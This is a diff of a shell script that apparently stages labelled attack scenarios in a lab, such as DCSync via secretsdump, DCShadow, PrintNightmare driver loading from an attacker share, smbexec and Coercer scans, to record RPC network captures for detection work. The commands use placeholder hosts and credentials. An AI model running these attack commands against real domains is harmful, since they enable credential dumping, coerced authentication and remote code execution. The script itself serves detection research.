@@ -1,7 +1,7 @@
 # Attacks on RPC services that coerce nothing, and what looks around before: one function, one capture.
 
 AS_ADMIN="$DOMAIN/Administrator:$ADMIN_PW"
-AS_USER="$DOMAIN/alice:$ALICE_PW"
+AS_USER="$DOMAIN/$ALICE:$ALICE_PW"
 NMAP=(nmap -n -Pn --max-retries 1 --host-timeout 60s)
 NMAP_TOOL='nmap 7.93'
 ON_DC=(malicious=yes attacker=$EVIL victim=$DC)
@@ -25,20 +25,20 @@ simple() {
 scenario_recon_rpcdump() { simple recon_rpcdump "impacket's rpcdump lists every endpoint of the domain controller over TCP 135." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" "$AS_USER@$DC"; }
 scenario_recon_rpcdump_pipe() { simple recon_rpcdump_pipe "The same over the pipe epmapper." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" -port 445 "$AS_USER@$DC"; }
 scenario_recon_rpcmap() { simple recon_rpcmap "impacket's rpcmap asks port 135 for the interfaces it has (management interface, opnum 0)." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcmap.py" "ncacn_ip_tcp:$DC[135]"; }
-scenario_recon_nmap_593() { simple recon_nmap_593 "nmap's version detection on 135, 593 and the dynamic port. What it sends is no RPC listing: no label." "$NMAP_TOOL" recon ON_SRV -- on_evil "${NMAP[@]}" -sV --version-light -p 135,593,49664 "$SRV"; }
+scenario_recon_nmap_593() { simple recon_nmap_593 "nmap's version detection on 135, 593 and the dynamic port. What it sends is no RPC listing: no label." "$NMAP_TOOL" recon ON_SRV -- on_evil "${NMAP[@]}" -sV --version-light -p 135,593,$DYNAMIC_PORT "$SRV"; }
 
 scenario_recon_coercer_scan() {
   callback_with impacket
   record recon_coercer_scan
-  in_host evil timeout 200 "$COERCER/coercer" scan -u alice -p "$ALICE_PW" -d $DOMAIN -t $SRV --auth-type smb \
-    --filter-transport-name msrpc --filter-method-name EfsRpcEncryptFileSrv -i $EVIL > "$RUN/coercer.log" 2>&1 || true
+  in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $SRV --auth-type smb \
+    --filter-transport-name msrpc --filter-method-name EfsRpcEncryptFileSrv --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
   truth "${COERCED_HERE[@]}" family=recon expect=recon:pipes expect=coercion:efsr tools="$COERCER_CALL" \
     notes="Coercer's scan mode: which pipes and interfaces are there, then one call a method with itself as the listener."
 }
 scenario_recon_coercer_scan_dc() {
   record recon_coercer_scan_dc
-  in_host evil timeout 200 "$COERCER/coercer" scan -u alice -p "$ALICE_PW" -d $DOMAIN -t $DC --auth-type smb \
-    --filter-transport-name msrpc -i $EVIL > "$RUN/coercer.log" 2>&1 || true
+  in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $DC --auth-type smb \
+    --filter-transport-name msrpc --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
   truth "${ON_DC[@]}" family=recon outcome=refused expect=recon:pipes expect=coercion:dfsnm expect=coercion:even tools="$COERCER_CALL" \
     notes="Coercer's scan mode at a real Samba domain controller: pipes open or not, interfaces rejected, calls refused."
 }
@@ -59,11 +59,11 @@ scenario_recon_alive_one() { simple recon_alive_one "ServerAlive2 at one host, t
 # --- attacks
 
 scenario_dcsync_object() { simple dcsync_object "DRSGetNCChanges for one account from a host that is no domain controller, as an administrator." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" Administrator object; }
-scenario_dcsync_denied() { simple dcsync_denied "The same as an ordinary user: refused." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" alice object; }
+scenario_dcsync_denied() { simple dcsync_denied "The same as an ordinary user: refused." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" object; }
 scenario_dcsync_pipe() { simple dcsync_pipe "The same over the pipe lsass, where a domain controller offers it too." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcsync -- stimulus replica "ncacn_np:$DC[\\pipe\\lsass]" Administrator object; }
-scenario_dcsync_secretsdump() { simple dcsync_secretsdump "impacket's secretsdump for one account. Samba refuses its DRSCrackNames, so the replication call is never made: no label." "$IMPACKET_CALL" rpc-attack ON_DC -- on_evil "$IMPACKET/secretsdump.py" -just-dc-user alice -just-dc-ntlm "$AS_ADMIN@$DC"; }
+scenario_dcsync_secretsdump() { simple dcsync_secretsdump "impacket's secretsdump for one account. Samba refuses its DRSCrackNames, so the replication call is never made: no label." "$IMPACKET_CALL" rpc-attack ON_DC -- on_evil "$IMPACKET/secretsdump.py" -just-dc-user "$ALICE" -just-dc-ntlm "$AS_ADMIN@$DC"; }
 scenario_dcshadow_admin() { simple dcshadow_admin "DRSAddEntry from a host that is no domain controller, as an administrator, with nothing to add." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" Administrator add; }
-scenario_dcshadow_user() { simple dcshadow_user "DRSAddEntry as an ordinary user." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" alice add; }
+scenario_dcshadow_user() { simple dcshadow_user "DRSAddEntry as an ordinary user." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_ip_tcp:$DC" "$ALICE" add; }
 
 scenario_dcshadow_pipe() { simple dcshadow_pipe "DRSAddEntry over the pipe lsass." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:dcshadow -- stimulus replica "ncacn_np:$DC[\\pipe\\lsass]" Administrator add; }
 
@@ -73,8 +73,8 @@ scenario_zerologon_auth2() { simple zerologon_auth2 "The same with the older Aut
 
 DRIVER="\\\\$EVIL\\share\\driver.dll"
 scenario_printnightmare_pipe() { simple printnightmare_pipe "RpcAddPrinterDriverEx with a file on the attacker's share, over a pipe: refused." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_np:$SRV[\\pipe\\spoolss]" "$DRIVER"; }
-scenario_printnightmare_tcp() { simple printnightmare_tcp "The same over TCP." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[49664]" "$DRIVER" 2; }
-scenario_printnightmare_sealed() { simple printnightmare_sealed "The same with privacy: the opnum shows, the path does not." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[49664]" "$DRIVER" 6; }
+scenario_printnightmare_tcp() { simple printnightmare_tcp "The same over TCP." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]" "$DRIVER" 2; }
+scenario_printnightmare_sealed() { simple printnightmare_sealed "The same with privacy: the opnum shows, the path does not." "$IMPACKET_CALL" rpc-attack ON_SRV rpc-attack:printnightmare -- stimulus driver "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]" "$DRIVER" 6; }
 scenario_printnightmare_samba() { simple printnightmare_samba "The same at Samba's own spooler on the domain controller." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:printnightmare -- stimulus driver "ncacn_np:$DC[\\pipe\\spoolss]" "$DRIVER"; }
 
 scenario_exec_smbexec() { simple exec_smbexec "impacket's smbexec: a service is to be created over svcctl. Samba does not run it." "$IMPACKET_CALL" rpc-attack ON_DC rpc-attack:remote-exec -- on_evil "$IMPACKET/smbexec.py" -share sysvol "$AS_ADMIN@$DC"; }
